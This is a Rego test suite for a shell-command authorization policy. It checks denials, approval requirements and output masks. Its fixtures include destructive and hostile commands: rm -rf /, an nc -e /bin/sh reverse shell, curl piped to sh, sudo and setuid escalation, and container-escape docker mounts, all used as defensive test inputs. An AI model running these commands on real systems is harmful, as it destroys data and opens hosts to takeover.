package portcullis.shell_test

import data.portcullis.shell
import rego.v1

# --- fixtures -------------------------------------------------------------------------------

no_network := {
	"dev_tcp": false, "dev_udp": false, "netcat": false, "netcat_exec": false, "socat": false,
	"download_to_shell": false, "reverse_shell": false, "hosts": [],
}

# A top-level command; `at` is its start offset (a wrapper's payload shares its wrapper's).
cmd(argv, at) := {
	"argv": argv, "program": argv[0], "unknown_program": false, "via": [], "context": "top",
	"contexts": [], "assignments": [], "redirections": [], "position": {"start": at, "end": at + 10},
}

payload(argv, at, via) := object.union(cmd(argv, at), {"via": via})

doc(commands) := {
	"version": 1, "kind": "shell", "commands": commands, "redirections": [], "assignments": [],
	"network": no_network,
}

req(action, target) := {
	"action": action,
	"identity": {"sub": "bob", "groups": ["sre"], "claims": {}},
	"connection": {"name": "app-hosts", "kind": "ssh", "target": target},
	"context": {"time": "2026-01-01T00:00:00Z", "session": {}, "approvals": []},
}

run(commands) := req(doc(commands), "staging")

line_with_network(commands, flags) := req(object.union(doc(commands), {"network": object.union(no_network, flags)}), "staging")

denied := {r.rule | some r in shell.deny}

approvals := {a.rule | some a in shell.approval}

rm(argv, recursive, targets) := object.union(cmd(argv, 0), {"summary": {"tool": "rm", "recursive": recursive, "force": true, "targets": targets}})

# --- allowed --------------------------------------------------------------------------------

test_read_only_command_allowed if {
	shell.granted with input as run([cmd(["ls", "-la", "/tmp"], 0)])
	count(shell.deny) == 0 with input as run([cmd(["ls", "-la", "/tmp"], 0)])
	count(shell.approval) == 0 with input as run([cmd(["ls", "-la", "/tmp"], 0)])
}

test_pipeline_of_allowed_programs if {
	count(shell.deny) == 0 with input as run([cmd(["ps", "aux"], 0), cmd(["grep", "nginx"], 10)])
}

test_wrapper_judged_by_payload if {
	line := [cmd(["timeout", "5", "ls"], 0), payload(["ls"], 0, ["timeout"])]
	count(shell.deny) == 0 with input as run(line)
}

test_no_shell_group_denied if {
	i := object.union(run([cmd(["ls"], 0)]), {"identity": {"sub": "eve", "groups": ["analysts"], "claims": {}}})
	"shell.no_access" in denied with input as i
	not shell.granted with input as i
}

# --- denials --------------------------------------------------------------------------------

test_parse_error_denied if {
	"shell.parse_error" in denied with input as run([]) with input.action.parse_error as {"code": "syntax_error", "message": "bash would reject this line"}
}

test_empty_line_denied if {
	"shell.empty" in denied with input as run([])
}

test_unknown_program_denied if {
	c := object.union(cmd(["x"], 0), {"program": null, "unknown_program": true, "argv": [{"unknown": true, "text": "$CMD"}]})
	"shell.unknown_program" in denied with input as run([c])
}

test_program_not_in_allow_list_denied if {
	"shell.program_not_allowed" in denied with input as run([cmd(["python3", "x.py"], 0)])
}

test_allow_list_wildcard if {
	not "shell.program_not_allowed" in denied with input as run([cmd(["python3", "x.py"], 0)])
		with data.config.shell.allowed_programs as ["*"]
}

test_rm_rf_root_denied if {
	"shell.destructive" in denied with input as run([rm(["rm", "-rf", "/"], true, ["/"])])
}

test_rm_rf_system_dir_denied if {
	"shell.destructive" in denied with input as run([rm(["rm", "-rf", "/etc/"], true, ["/etc/"])])
}

test_rm_rf_dynamic_target_denied if {
	"shell.destructive" in denied with input as run([rm(["rm", "-rf", {"unknown": true, "text": "$DIR"}], true, [{"unknown": true, "text": "$DIR"}])])
}

test_rm_no_preserve_root_denied if {
	"shell.destructive" in denied with input as run([rm(["rm", "-r", "--no-preserve-root", "x"], true, ["x"])])
}

test_rm_rf_in_bash_c_payload_denied if {
	line := [cmd(["bash", "-c", "rm -rf /"], 0), object.union(rm(["rm", "-rf", "/"], true, ["/"]), {"via": ["bash -c"]})]
	"shell.destructive" in denied with input as run(line)
}

test_recursive_delete_elsewhere_needs_approval if {
	line := [rm(["rm", "-rf", "/scratch/build"], true, ["/scratch/build"])]
	count(shell.deny) == 0 with input as run(line)
	"shell.recursive_delete" in approvals with input as run(line)
}

test_dynamic_delete_needs_approval if {
	line := [
		cmd(["find", ".", "-exec", "rm", "{}", "+"], 0),
		object.union(rm(["rm", {"unknown": true, "text": "{}"}], false, [{"unknown": true, "text": "{}"}]), {"via": ["find -exec"]}),
	]
	"shell.dynamic_delete" in approvals with input as run(line)
	"shell.dynamic_delete" in approvals with input as run([cmd(["find", "/tmp", "-delete"], 0)])
}

test_destructive_programs_denied if {
	every p in ["mkfs.ext4", "dd", "shred", "shutdown", "reboot", "wipefs"] {
		"shell.destructive" in denied with input as run([cmd([p, "x"], 0)])
	}
}

test_git_force_push_denied if {
	c := object.union(cmd(["git", "push", "--force"], 0), {"summary": {"tool": "git", "subcommand": "push", "push": true, "force": true, "remote": null}})
	"shell.destructive" in denied with input as run([c])
}

test_privilege_escalation_denied if {
	every p in ["sudo", "su", "doas", "pkexec", "nsenter"] {
		"shell.privilege_escalation" in denied with input as run([cmd([p, "id"], 0)])
	}
}

test_setuid_chmod_denied if {
	"shell.privilege_escalation" in denied with input as run([cmd(["chmod", "u+s", "/bin/bash"], 0)])
	"shell.privilege_escalation" in denied with input as run([cmd(["chmod", "4755", "/bin/bash"], 0)])
	not "shell.privilege_escalation" in denied with input as run([cmd(["chmod", "755", "x"], 0)])
}

test_reverse_shell_denied if {
	"shell.reverse_shell" in denied with input as line_with_network([cmd(["bash", "-i"], 0)], {"reverse_shell": true, "dev_tcp": true})
	"shell.reverse_shell" in denied with input as line_with_network([cmd(["nc", "-e", "/bin/sh", "h", "1"], 0)], {"netcat": true, "netcat_exec": true})
	"shell.reverse_shell" in denied with input as line_with_network([cmd(["cat"], 0)], {"dev_udp": true})
}

test_curl_pipe_sh_denied if {
	line := [cmd(["curl", "https://x.sh"], 0), cmd(["sh"], 20)]
	"shell.download_to_shell" in denied with input as line_with_network(line, {"download_to_shell": true})
}

docker(s) := object.union(cmd(["docker", "run"], 0), {"summary": object.union(
	{"tool": "docker", "subcommand": "run", "run": true, "privileged": false, "mounts": [], "image": "x", "host_network": false, "host_pid": false},
	s,
)})

test_container_escape_denied if {
	"shell.container_escape" in denied with input as run([docker({"privileged": true})])
	"shell.container_escape" in denied with input as run([docker({"mounts": ["/:/host"]})])
	"shell.container_escape" in denied with input as run([docker({"mounts": ["/var/run/docker.sock:/s"]})])
	"shell.container_escape" in denied with input as run([docker({"host_pid": true})])
	not "shell.container_escape" in denied with input as run([docker({"mounts": ["/srv/app:/app"]})])
}

test_write_to_system_path_denied if {
	i := object.union(run([cmd(["echo", "x"], 0)]), {"action": {"redirections": [{"op": ">", "dir": "w", "fd": null, "target": "/etc/hosts"}]}})
	"shell.system_write" in denied with input as i
}

test_write_to_dev_null_allowed if {
	i := object.union(run([cmd(["echo", "x"], 0)]), {"action": {"redirections": [{"op": ">", "dir": "w", "fd": null, "target": "/dev/null"}]}})
	count(shell.deny) == 0 with input as i
}

test_copy_into_system_path_denied if {
	"shell.system_write" in denied with input as run([cmd(["cp", "x", "/etc/passwd"], 0)])
	not "shell.system_write" in denied with input as run([cmd(["cp", "/etc/passwd", "/scratch/x"], 0)])
}

test_embedded_sql_denied if {
	c := object.union(cmd(["psql", "-c", "DROP TABLE x"], 0), {"sql": [{"dialect": "postgresql", "text": "DROP TABLE x"}]})
	"shell.embedded_sql" in denied with input as run([c])
}

# --- approvals ------------------------------------------------------------------------------

test_network_tool_needs_approval if {
	line := [cmd(["curl", "https://api.example.com"], 0)]
	count(shell.deny) == 0 with input as run(line)
	"shell.network_tool" in approvals with input as run(line)
}

test_network_tool_approvers_from_data if {
	some a in shell.approval with input as run([cmd(["ssh", "db1"], 0)])
	a.approvers == ["sre-leads"]
}

test_inline_code_needs_approval if {
	c := object.union(cmd(["python3", "-c", "print(1)"], 0), {"code": {"language": "python", "text": "print(1)"}})
	"shell.inline_code" in approvals with input as run([c])
}

kubectl(verb) := object.union(cmd(["kubectl", verb], 0), {"summary": {"tool": "kubectl", "verb": verb, "resource": "pod", "name": "x", "namespace": null, "all_namespaces": false}})

test_kubectl_mutation_needs_approval if {
	"shell.kubectl_mutation" in approvals with input as run([kubectl("delete")])
	not "shell.kubectl_mutation" in approvals with input as run([kubectl("get")])
}

test_production_host_needs_approval_for_non_read_only if {
	"shell.production_host" in approvals with input as req(doc([cmd(["mkdir", "x"], 0)]), "prod")
	not "shell.production_host" in approvals with input as req(doc([cmd(["ls"], 0)]), "prod")
	not "shell.production_host" in approvals with input as req(doc([cmd(["mkdir", "x"], 0)]), "staging")
}

# --- masks ----------------------------------------------------------------------------------

test_terminal_output_masks if {
	ms := shell.masks with input as run([cmd(["ls"], 0)])
	some m in ms
	m.target == {"kind": "detector", "detector": "private_key"}
}

awk(program) := object.union(cmd(["awk", program], 0), {"code": {"language": "awk", "text": program}})

test_awk_running_commands_needs_approval if {
	"shell.inline_code" in approvals with input as run([awk(`BEGIN { system("id") }`)])
	"shell.inline_code" in approvals with input as run([awk(`{ print | "sh" }`)])
	"shell.inline_code" in approvals with input as run([awk(`BEGIN { "date" | getline d }`)])
	not "shell.inline_code" in approvals with input as run([awk(`{ print $1 }`)])
}

test_env_is_not_allowed_alone if {
	"shell.program_not_allowed" in denied with input as run([cmd(["env"], 0)])
	"shell.program_not_allowed" in denied with input as run([cmd(["printenv"], 0)])
	count(shell.deny) == 0 with input as run([cmd(["env", "A=1", "ls"], 0), payload(["ls"], 0, ["env"])])
}

test_terminal_masks_only_for_shell if {
	count(shell.masks) == 0 with input as object.union(run([cmd(["ls"], 0)]), {"action": {"kind": "mcp"}})
}
